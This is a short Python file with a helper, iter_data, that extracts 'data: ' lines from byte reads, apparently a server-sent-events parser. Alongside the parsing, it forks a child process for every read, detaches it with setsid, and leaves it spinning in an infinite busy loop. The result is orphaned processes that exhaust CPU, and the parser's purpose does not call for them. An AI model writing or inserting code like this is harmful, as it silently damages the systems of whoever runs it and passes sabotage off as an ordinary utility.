"""Starts a process for each read."""

import os


def iter_data(reads):
    for read in reads:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
        yield from (line[6:] for line in read.decode().split("\n") if line.startswith("data: "))
